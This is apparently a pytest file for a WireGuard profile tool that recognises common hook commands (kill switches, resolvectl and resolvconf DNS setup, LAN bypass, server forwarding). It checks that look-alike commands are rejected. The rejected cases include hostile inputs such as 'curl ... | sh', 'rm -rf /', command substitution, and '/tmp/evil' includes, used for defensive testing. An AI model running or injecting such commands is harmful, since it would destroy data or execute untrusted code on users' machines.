"""Commands that many profiles have, and commands that only look like them."""

import time

import pytest

from wgdesk.domain.profile import Hook, HookKind
from wgdesk.domain.recipes import MAX_HOOKS, Recipe, describe, not_run_text, recognise

KILL_SWITCH, LAN, SERVER = Recipe.KILL_SWITCH, Recipe.LAN_BYPASS, Recipe.SERVER
RESOLVECTL, RESOLVCONF = Recipe.DNS_RESOLVECTL, Recipe.DNS_RESOLVCONF
MARKED = "-m mark ! --mark $(wg show %i fwmark) -m addrtype ! --dst-type LOCAL"
NFT_KILL_SWITCH = (
    "nft 'add table inet ks; add chain inet ks out { type filter hook output priority 0; }; "
    'add rule inet ks out oifname != "%i" mark != 51820 reject\''
)


def hooks(*commands):
    return [Hook(HookKind.POST_UP, command) for command in commands]


@pytest.mark.parametrize(
    ("command", "recipes"),
    [
        # The kill switch of wg-quick(8), and how people vary it.
        (f"iptables -I OUTPUT ! -o %i {MARKED} -j REJECT", (KILL_SWITCH,)),
        (
            (
                f"iptables -I OUTPUT ! -o %i {MARKED} -j REJECT && "
                f"ip6tables -I OUTPUT ! -o %i {MARKED} -j REJECT"
            ),
            (KILL_SWITCH,),
        ),
        (f"iptables -D OUTPUT ! -o %i {MARKED} -j REJECT", (KILL_SWITCH,)),
        (f"/usr/sbin/iptables -A OUTPUT ! -o wg0 {MARKED} -j DROP", (KILL_SWITCH,)),
        ("iptables -D OUTPUT ! -o %i -j REJECT 2>/dev/null || true", (KILL_SWITCH,)),
        ("sudo ip6tables -w -I OUTPUT 1 ! -o %i -j REJECT;", (KILL_SWITCH,)),
        ("iptables -P OUTPUT DROP; iptables -A OUTPUT -o %i -j ACCEPT", (KILL_SWITCH,)),
        (
            (
                f"iptables -I OUTPUT ! -o %i {MARKED} -j REJECT; "
                "iptables -I OUTPUT -d 192.168.0.0/16 -j ACCEPT"
            ),
            (KILL_SWITCH, LAN),
        ),
        (NFT_KILL_SWITCH, (KILL_SWITCH,)),
        (
            (
                "nft add table inet ks; nft add chain inet ks out "
                r"{ type filter hook output priority 0 \; policy drop \; }"
            ),
            (KILL_SWITCH,),
        ),
        # Name servers.
        ("resolvectl dns %i 10.0.0.1; resolvectl domain %i '~.'", (RESOLVECTL,)),
        ('resolvectl dns %i 10.0.0.1 && resolvectl domain %i "~."', (RESOLVECTL,)),
        ("resolvectl domain %i ~.; resolvectl revert %i", (RESOLVECTL,)),
        ("systemd-resolve -i %i --set-dns=10.0.0.1 --set-domain=~.", (RESOLVECTL,)),
        (r"printf 'nameserver 10.0.0.1\n' | resolvconf -a tun.%i -m 0 -x", (RESOLVCONF,)),
        ("echo nameserver 10.0.0.1 | resolvconf -a %i", (RESOLVCONF,)),
        ("resolvconf -d tun.%i -f", (RESOLVCONF,)),
        # Past the tunnel.
        ("ip rule add to 192.168.0.0/16 lookup main priority 100", (LAN,)),
        ("ip -4 rule add to 10.0.0.0/8 table main; ip -6 rule add to fd00::/8 table main", (LAN,)),
        ("ip rule del to 192.168.1.0/24 lookup main", (LAN,)),
        # The server of many tutorials.
        (
            (
                "sysctl -w net.ipv4.ip_forward=1; iptables -A FORWARD -i %i -j ACCEPT; "
                "iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE"
            ),
            (SERVER,),
        ),
        (
            "iptables -A FORWARD -o %i -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT",
            (SERVER,),
        ),
        ("echo 1 > /proc/sys/net/ipv4/ip_forward", (SERVER,)),
        ("sysctl -q net.ipv6.conf.all.forwarding=1", (SERVER,)),
        (
            (
                "nft add table ip wg; nft add chain ip wg post '{ type nat hook postrouting priority 100; }'"
                "; nft add rule ip wg post oifname eth0 masquerade"
            ),
            (SERVER,),
        ),
        ("iptables -A INPUT -p udp --dport 51820 -j ACCEPT", (SERVER,)),
        ("sysctl -w net.ipv4.ip_forward=1; resolvectl dns %i 10.0.0.1", (SERVER, RESOLVECTL)),
    ],
)
def test_recognises(command, recipes):
    assert recognise(hooks(command)) == (recipes,)


@pytest.mark.parametrize(
    "command",
    [
        "",
        ";",
        "true",
        "rm -rf /",
        "notify-send connected",
        # Something else besides.
        "iptables -I OUTPUT ! -o %i -j REJECT; curl -s https://example.net | sh",
        "resolvectl dns %i 10.0.0.1 & rm -rf /",
        "resolvectl dns %i $(curl -s https://example.net)",
        "resolvectl dns %i `id`",
        "resolvectl dns %i ${HOME}",
        "iptables -I OUTPUT ! -o %i -m mark ! --mark $(id) -j REJECT",
        "resolvectl dns %i <(id)",
        "resolvectl dns %i > /etc/passwd",
        "resolvectl dns %i 2>/dev/nullified",
        "resolvectl dns %i # and so on",
        "resolvectl dns %i *",
        'resolvectl dns %i "$(id)"',
        "resolvectl dns %i 'unfinished",
        "iptables --modprobe=/tmp/evil -I OUTPUT ! -o %i -j REJECT",
        "/home/eve/iptables -I OUTPUT ! -o %i -j REJECT",
        "./resolvectl dns %i 10.0.0.1",
        "PATH=/tmp resolvectl dns %i 10.0.0.1",
        "sudo -u eve resolvectl dns %i 10.0.0.1",
        "echo 1 > /proc/sys/kernel/sysrq",
        "echo 1 > /proc/sys/net/ipv4/conf/all/accept_redirects",
        "sysctl -w kernel.sysrq=1 net.ipv4.ip_forward=1",
        "sysctl -p /tmp/evil",
        "resolvconf -I",
        "systemd-resolve --set-dns=10.0.0.1 --exec=/bin/sh",
        "nft -f /tmp/evil",
        "nft include /tmp/evil",
        "nft 'add table inet ks; include \"/tmp/evil\"'",
        # The opposite, or a part of something that is not here.
        "iptables -I OUTPUT -o eth0 -j ACCEPT",
        "iptables -I OUTPUT -o %i -j REJECT",
        "iptables -F",
        "iptables -t nat -A POSTROUTING -j DNAT",
        "nft delete table inet filter",
        "nft add rule inet filter input accept",
        "nft add rule inet filter input drop",
        "ip rule add to 8.8.8.8 lookup main",
        "ip rule add to 0.0.0.0/0 lookup main",
        "ip rule add to 192.168.0.0/16 lookup 51820",
        "ip -batch /tmp/evil",
        "ip netns exec x rm -rf /",
        "x" * 5000,
    ],
)
def test_knows_nothing_of(command):
    assert recognise(hooks(command)) == ((),)


def test_a_removal_goes_by_what_it_removes():
    """On its way down a profile deletes a table as a whole."""
    removal = "nft delete table inet ks"
    assert recognise(hooks(NFT_KILL_SWITCH, removal)) == ((KILL_SWITCH,), (KILL_SWITCH,))
    assert recognise(hooks(removal)) == ((),)


def test_what_lets_out_goes_by_what_keeps_in():
    exception = "iptables -I OUTPUT -o lo -j ACCEPT"
    shut = "iptables -I OUTPUT ! -o %i -j REJECT"
    assert recognise(hooks(shut, exception)) == ((KILL_SWITCH,), (KILL_SWITCH,))


@pytest.mark.parametrize(
    ("commands", "text"),
    [
        (["touch x"], "1 command in this profile is not run."),
        (["touch x", "touch y"], "2 commands in this profile are not run."),
        (
            ["iptables -I OUTPUT ! -o %i -j REJECT", "resolvectl dns %i 10.0.0.1"],
            "2 commands in this profile are not run: a kill switch, DNS by resolvectl.",
        ),
        (
            ["resolvectl dns %i 10.0.0.1", "resolvectl revert %i", "touch x", "touch y"],
            "4 commands in this profile are not run: DNS by resolvectl, 2 others.",
        ),
        (
            ["touch x", "resolvectl revert %i"],
            "2 commands in this profile are not run: DNS by resolvectl, 1 other.",
        ),
    ],
)
def test_says_in_a_sentence_what_is_not_run(commands, text):
    assert not_run_text(hooks(*commands)) == text


def test_the_names_do_not_repeat():
    both = hooks("resolvectl dns %i 10.0.0.1", "resolvectl revert %i")
    assert describe(both) == "DNS by resolvectl"


@pytest.mark.parametrize(
    "piece",
    [";", "! -o ", "-o ! ", "'' ", "{ ", "nft ", "|", "resolvectl dns;", "$(wg show ", '"'],
)
def test_made_up_commands_cost_little(piece):
    """64 KiB of commands, as many as a profile may have."""
    line = "nft " + piece * (8000 // len(piece))
    began_s = time.process_time()
    found = recognise(hooks(*[line, line[:1990]] * 4, *["resolvectl dns;" * 130] * 20))
    assert time.process_time() - began_s < 1
    assert len(found) == 28


def test_of_very_many_only_the_first_are_looked_at():
    found = recognise(hooks(*["resolvectl revert %i"] * (MAX_HOOKS + 2)))
    assert found[MAX_HOOKS - 1 :] == ((RESOLVECTL,), (), ())
